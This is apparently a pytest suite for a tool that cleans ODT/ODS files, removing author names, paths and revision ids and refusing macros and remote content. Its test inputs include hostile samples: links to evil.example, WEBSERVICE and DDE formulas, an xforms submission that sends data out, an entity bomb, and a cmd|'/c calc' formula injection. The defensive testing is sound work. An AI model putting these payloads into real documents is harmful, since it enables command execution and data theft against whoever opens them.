"""ODT and ODS: names, paths, printers and numbers of revisions go, what fetches or runs is refused."""

import pytest

from tests.evidence_files import OLE, opendocument, package, picture
from tests.exchange.cleaning import CANARY, everything, refused, taken, unpacked

SPACES = " ".join(
    f'xmlns:{prefix}="{address}"'
    for prefix, address in {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "config": "urn:oasis:names:tc:opendocument:xmlns:config:1.0",
        "dc": "http://purl.org/dc/elements/1.1/",
        "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
        "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
        "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
        "xforms": "http://www.w3.org/2002/xforms",
        "loext": "urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0",
        "officeooo": "http://openoffice.org/2009/office",
    }.items()
)


def content_of(inside: str) -> str:
    return f"<office:document-content {SPACES}>{inside}</office:document-content>"


def odt(inside: str = "", **parts: bytes | str) -> bytes:
    given = {"content.xml": content_of(inside), "META-INF/manifest.xml": "<m/>"}
    return package({"mimetype": "application/vnd.oasis.opendocument.text", **given, **parts})


def test_a_document_tells_nothing_of_its_author() -> None:
    """A canary in each place where LibreOffice writes a name, a path or a number of a revision."""
    content = odt(
        f'<office:annotation><dc:creator>{CANARY}</dc:creator><text:p officeooo:rsid="{CANARY}">A note</text:p>'
        f"<meta:creator-initials>{CANARY}</meta:creator-initials></office:annotation>"
        f"<office:change-info><dc:creator>{CANARY}</dc:creator></office:change-info>"
        f'<text:p officeooo:paragraph-rsid="{CANARY}">Visible words</text:p>'
        f'<text:a xlink:href="file:///home/{CANARY}/a.odt">link</text:a>'
        f'<draw:frame draw:name="/home/{CANARY}/a.jpg"><draw:image xlink:href="Pictures/a.jpg"/></draw:frame>',
        **{
            "meta.xml": f"<office:document-meta {SPACES}><dc:title>Report</dc:title><meta:initial-creator>{CANARY}"
            f"</meta:initial-creator><dc:creator>{CANARY}</dc:creator></office:document-meta>",
            "settings.xml": f'<office:settings {SPACES}><config:config-item config:name="PrinterName">{CANARY}'
            f'</config:config-item><config:config-item config:name="Rsid">{CANARY}</config:config-item>'
            '<config:config-item config:name="ZoomFactor">90</config:config-item></office:settings>',
            "Pictures/a.jpg": picture(comment=CANARY.encode()),
            "Thumbnails/thumbnail.png": CANARY,
            "Configurations2/menubar/a.xml": f"<a>{CANARY}</a>",
            "META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:file-entry m:full-path="content.xml"/>'
            '<m:file-entry m:full-path="Thumbnails/thumbnail.png"/></m:manifest>',
        },
    )
    assert everything(content).count(CANARY.encode()) >= 13
    for of_state in (True, False):
        found = taken("report.odt", content, of_state=of_state).content
        assert CANARY.encode() not in everything(found)
        parts = unpacked(found)
        assert next(iter(parts)) == "mimetype"
        assert b"Visible words" in parts["content.xml"]
        assert b"A note" in parts["content.xml"]
        assert b"ZoomFactor" in parts["settings.xml"]
        assert b"Thumbnails" not in parts["META-INF/manifest.xml"]
        assert (b"Report" in parts["meta.xml"]) == of_state
        assert taken("report.odt", content, of_state=of_state).content == found


@pytest.mark.parametrize(
    "inside",
    [
        '<draw:image xlink:href="https://evil.example/a.png"/>',
        '<draw:image xlink:href="file:///home/a/a.png"/>',
        '<draw:image xlink:href="../outside.png"/>',
        '<draw:image xlink:href="//evil.example/a.png"/>',
        '<draw:object xlink:href="https://evil.example/a.ods"/>',
        '<text:section-source xlink:href="https://evil.example/a.odt"/>',
        '<table:table-source xlink:href="file://evil.example/a.ods"/>',
        '<table:cell-range-source xlink:href="https://evil.example/a.html"/>',
        '<text:a xlink:href="vnd.sun.star.script:a$b?language=Basic"/>',
        '<text:a xlink:href="smb://evil.example/a"/>',
        '<office:dde-source office:dde-application="soffice"/>',
        '<x:image xmlns:x="x" xmlns:y="http://www.w3.org/1999/xlink" y:href="https://evil.example/"/>',
    ],
)
def test_what_leads_elsewhere_is_refused_and_named(inside: str) -> None:
    said = refused("report.odt", odt(inside))
    assert "loads something from elsewhere" in said
    assert "content.xml" in said
    assert "styles.xml" in refused("report.odt", odt(**{"styles.xml": content_of(inside)}))


@pytest.mark.parametrize(
    "inside",
    [
        "<office:script>1</office:script>",
        '<script:event-listener xlink:href="vnd.sun.star.script:a"/>',
        "<draw:applet/>",
        "<draw:plugin/>",
        "<draw:floating-frame/>",
    ],
)
def test_what_runs_is_refused(inside: str) -> None:
    assert "macros" in refused("report.odt", odt(inside))


@pytest.mark.parametrize(
    "formula",
    [
        'of:=WEBSERVICE("https://evil.example/")',
        'of:=DDE("soffice";"a";"b")',
        "of:='file://evil.example/a.ods'#$S.A1",
    ],
)
def test_formulas_that_fetch_are_refused(formula: str) -> None:
    said = refused(
        "report.odt", odt(f'<table:table-cell table:formula="{formula.replace(chr(34), "&quot;")}"/>')
    )
    assert "formula" in said


def test_links_that_a_person_follows_and_what_is_inside_stay() -> None:
    inside = (
        '<text:a xlink:href="https://stat.kg/">a</text:a><text:a xlink:href="#place">b</text:a>'
        '<draw:object xlink:href="./Object 1"/><draw:image xlink:href="Pictures/a.png"/>'
        '<text:a xlink:href="">c</text:a>'
    )
    parts = {"Object 1/content.xml": content_of(""), "Pictures/a.png": picture("PNG")}
    found = unpacked(taken("report.odt", odt(inside, **parts)).content)
    for kept in ("https://stat.kg/", "#place", "./Object 1", "Pictures/a.png"):
        assert kept in found["content.xml"].decode()


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("Object 1", OLE),
        ("Pictures/a.jpg", b"MZ\x90\0"),
        ("Basic/a.xml", b"<a/>"),
        ("a.bin", b"\x01\x02\x03\x04\x05"),
    ],
)
def test_programs_inside_are_refused(part: str, content: bytes) -> None:
    assert part in refused("report.odt", odt(**{part: content}))


def test_signed_ones_and_such_with_entities_are_refused() -> None:
    assert "has a digital signature" in refused(
        "report.odt", odt(**{"META-INF/documentsignatures.xml": "<a/>"})
    )
    bomb = '<!DOCTYPE a [<!ENTITY a "aaaa">]><a>&a;</a>'
    assert "hides" in refused("report.odt", opendocument(**{"content.xml": bomb}))


@pytest.mark.parametrize("values", ["{1;2|3;4}", "{1|2}", '{"a"|"b"}', "{1;-2|3;4}+{1|2}"])
def test_tables_of_values_in_a_formula_start_no_program(values: str) -> None:
    """LibreOffice parts their rows by the sign that parts a program from what is asked of it."""
    formula = f"of:=SUM({values})".replace('"', "&quot;")
    taken("report.odt", odt(f'<table:table-cell table:formula="{formula}"/>'))
    hidden = "of:={1;2|3;4}+cmd|'/c calc'!A0"
    assert "cmd" in refused("report.odt", odt(f'<table:table-cell table:formula="{hidden}"/>'))


@pytest.mark.parametrize(
    "inside",
    [
        f"<loext:sender-initials>{CANARY}</loext:sender-initials>",
        f"<text:sender-lastname>{CANARY}</text:sender-lastname>",
        f"<text:sender-email>{CANARY}</text:sender-email>",
        f'<text:file-name text:display="full">/home/{CANARY}/a.odt</text:file-name>',
        f'<text:file-name text:display="path">file:///C:/Users/{CANARY}/</text:file-name>',
        f"<draw:frame><svg:desc>C:\\Users\\{CANARY}\\a.jpg</svg:desc></draw:frame>",
        f"<draw:frame><svg:title>/media/{CANARY}/a.jpg</svg:title></draw:frame>",
    ],
)
def test_names_and_paths_in_texts_go(inside: str) -> None:
    found = taken("report.odt", odt(inside)).content
    assert CANARY.encode() not in everything(found)


@pytest.mark.parametrize(
    "inside",
    [
        '<text:file-name text:display="name-and-extension">a.odt</text:file-name>',
        "<draw:frame><svg:desc>Children in a school / yard</svg:desc></draw:frame>",
        '<form:button form:image-data="Pictures/a.png"/>',
        '<xforms:instance src="#a"/>',
        '<xforms:instance src=""/>',
    ],
)
def test_descriptions_and_what_is_inside_stay(inside: str) -> None:
    found = unpacked(taken("report.odt", odt(inside, **{"Pictures/a.png": picture("PNG")})).content)
    assert found["content.xml"].decode() == content_of(inside)


@pytest.mark.parametrize(
    "inside",
    [
        '<form:button form:image-data="https://evil.example/a.png"/>',
        '<xforms:instance src="https://evil.example/a.xml"/>',
        '<xforms:submission action="https://evil.example/"/>',
        '<xforms:submission resource="https://evil.example/"/>',
    ],
)
def test_forms_that_fetch_or_send_are_refused(inside: str) -> None:
    assert "https://evil.example/" in refused("report.odt", odt(inside))


def test_a_picture_written_as_text_is_refused() -> None:
    """Nothing would take out what it tells of place and camera."""
    inside = "<draw:image><office:binary-data>/9j/4AAQ</office:binary-data></draw:image>"
    assert "hides what it holds" in refused("report.odt", odt(inside))


def test_no_part_of_the_file_stands_for_the_web() -> None:
    address = "http://evil.example/a.png"
    link = f'<draw:image xlink:href="{address}"/>'
    refused("report.odt", odt(link))
    for part in ("http:/evil.example/a.png", "http:/evil.example/b.png", "a:b.xml"):
        refused("report.odt", odt(link, **{part: picture("PNG")}))
    for name in ("http:/evil.example/a.png", "a:b.png"):
        assert name in refused("report.odt", odt(**{name: picture("PNG")}))
